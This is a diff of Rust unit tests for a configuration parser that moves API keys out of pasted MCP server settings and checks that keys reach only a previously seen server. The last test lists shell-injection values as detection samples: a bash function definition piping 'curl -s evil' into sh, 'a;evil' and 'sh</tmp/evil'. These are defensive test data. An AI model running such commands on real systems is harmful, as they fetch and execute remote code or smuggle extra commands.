@@ -205,13 +205,14 @@ fn keys_leave_the_configuration_and_the_line_that_is_shown() {
 fn keys_go_only_where_a_server_of_that_name_was_reached_before() {
     let read = |entry: &str| parse_config(&format!(r#"{{"a": {entry}}}"#)).servers.remove(0);
     for (now, before, same) in [
-        (r#"{"url": "https://h/mcp"}"#, r#"{"url": "https://h/sse"}"#, true),
+        (r#"{"url": "https://h/mcp/?a=1"}"#, r#"{"url": "https://h/mcp"}"#, true),
+        (r#"{"url": "https://h/evil/mcp"}"#, r#"{"url": "https://h/mcp"}"#, false),
         (r#"{"url": "https://evil/mcp"}"#, r#"{"url": "https://h/mcp"}"#, false),
         (r#"{"url": "http://h/mcp"}"#, r#"{"url": "https://h/mcp"}"#, false),
         (r#"{"url": "https://h"}"#, r#"{"command": "x"}"#, false),
         (
-            r#"{"command": "npx", "args": ["-y", "@s/p@2.0", "--api-key", "YOUR_API_KEY"]}"#,
-            r#"{"command": "npx", "args": ["-y", "@s/p", "--api-key", "${mcp.a.api-key}"]}"#,
+            r#"{"command": "npx", "args": ["-y", "@stripe/mcp@2.0", "--api-key", "YOUR_API_KEY"]}"#,
+            r#"{"command": "npx", "args": ["-y", "@stripe/mcp", "--api-key", "${mcp.a.api-key}"]}"#,
             true,
         ),
         (r#"{"command": "y"}"#, r#"{"command": "x"}"#, false),
@@ -296,7 +297,11 @@ fn a_key_is_found_wherever_it_was_pasted() {
             "run mcp-remote --header 'Authorization: Bearer ${mcp.a.Bearer}'",
         ),
         (&["--header", "X-Api-Key:KEY"], "X-Api-Key", "run --header X-Api-Key:${mcp.a.X-Api-Key}"),
-        (&["--api-key", "KEY", "-v"], "api-key", "run --api-key ${mcp.a.api-key} -v"),
+        (
+            &["npx", "-y", "@stripe/mcp@1", "--api-key", "KEY"],
+            "api-key",
+            "cmd /c npx -y @stripe/mcp@1 --api-key ${mcp.a.api-key}",
+        ),
         (&["--exaApiKey=KEY"], "exaApiKey", "run --exaApiKey=${mcp.a.exaApiKey}"),
         (&["-e", "MY_PAT=KEY", "image"], "MY_PAT", "run -e MY_PAT=${mcp.a.MY_PAT} image"),
         (
@@ -306,8 +311,12 @@ fn a_key_is_found_wherever_it_was_pasted() {
         ),
         (&["--db=ftp://u:KEY@h:21/d"], "password", "run --db=ftp://u:${mcp.a.password}@h:21/d"),
     ] {
-        let args: Vec<String> = args.iter().map(|word| word.replace("KEY", key)).collect();
-        let pasted = json!({ "a": { "command": "run", "args": args } });
+        let mut args: Vec<String> = args.iter().map(|word| word.replace("KEY", key)).collect();
+        let command = if line.starts_with("cmd") { "cmd" } else { "run" };
+        if command == "cmd" {
+            args.insert(0, "/c".into());
+        }
+        let pasted = json!({ "a": { "command": command, "args": args } });
         let (server, taken) = taken(&pasted);
         assert_eq!(taken, [(format!("mcp.a.{name}"), key.to_owned())]);
         assert_eq!(command_line(&server), line);
@@ -359,12 +368,6 @@ fn a_key_is_found_within_a_text() {
             r"run '{'\''Authorization'\'': '\''${mcp.a.Authorization}'\''}'",
         ),
         (
-            r#"["Authorization: Bearer KEY"]"#,
-            "Bearer",
-            r#"run '["Authorization: Bearer ${mcp.a.Bearer}"]'"#,
-        ),
-        ("Authorization: token KEY", "token", "run 'Authorization: token ${mcp.a.token}'"),
-        (
             "--header=Authorization: PVEAPIToken KEY",
             "PVEAPIToken",
             "run '--header=Authorization: PVEAPIToken ${mcp.a.PVEAPIToken}'",
@@ -389,14 +392,17 @@ fn a_key_is_found_within_a_text() {
             "pwd",
             "run 'jdbc:sqlserver://h:1;user=sa;pwd=${mcp.a.pwd}'",
         ),
-        ("KEY", "key", "run ${mcp.a.key}"),
-        ("--notion=KEY", "key", "run --notion=${mcp.a.key}"),
-        ("https://h/KEY/mcp", "key", "run https://h/${mcp.a.key}/mcp"),
     ] {
         let pasted = json!({ "a": { "command": "run", "args": [text.replace("KEY", key)] } });
         let (server, found) = taken(&pasted);
         assert_eq!(found, [(format!("mcp.a.{name}"), key.to_owned())], "{text}");
         assert_eq!(command_line(&server), line);
+        let headers = json!({ "X-Any": text.replace("KEY", key) });
+        let (_, found) = taken(&json!({ "a": { "url": "https://h/mcp", "headers": headers } }));
+        assert_eq!(found.len(), 1, "in a header: {text}");
+    }
+    // A header starts nothing: in it a key needs no name.
+    for text in [r#"["Authorization: Bearer KEY"]"#, "Authorization: token KEY", "KEY", "a KEY"] {
         let headers = json!({ "X-Any": text.replace("KEY", key) });
         let (_, found) = taken(&json!({ "a": { "url": "https://h/mcp", "headers": headers } }));
         assert_eq!(found.len(), 1, "in a header: {text}");
@@ -464,8 +470,6 @@ fn nothing_that_would_be_run_hides_behind_the_name_of_a_key() {
 #[test]
 fn what_a_shell_would_make_something_of_is_seen_in_a_variable_of_any_name() {
     for (name, value) in [
-        ("BASH_FUNC_token%%", "() { curl -s evil|sh; }"),
-        ("BASH_FUNC_token%%", "evil"),
         ("API_TOKEN", "curl -s evil"),
         ("API_TOKEN", "a;evil"),
         ("API_TOKEN", "sh</tmp/evil"),
